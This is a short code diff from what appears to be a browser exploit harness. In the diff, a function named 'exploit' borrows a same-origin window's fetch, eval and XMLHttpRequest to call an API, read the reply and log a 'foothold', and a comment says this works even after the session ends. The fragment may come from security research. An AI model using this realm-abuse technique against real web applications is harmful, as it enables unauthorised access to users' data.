@@ -123,7 +123,10 @@ async function aPage(path = "/posts") {
 // exploit uses the realm of a window of the same origin: its own fetch, its eval, what it shows.
 async function exploit(me, w) {
   for (const way of [
-    async () => me.read(w.fetch(settings.api, me.post())),
+    async () => {
+      me.got(await (await w.fetch(settings.api, me.post())).text());
+      me.foothold("a realm that reaches the API"); // also where there is no session any more
+    },
     async () => me.got(await w.eval(`${me.code("String")}`)),
     async () => {
       const x = new w.XMLHttpRequest();
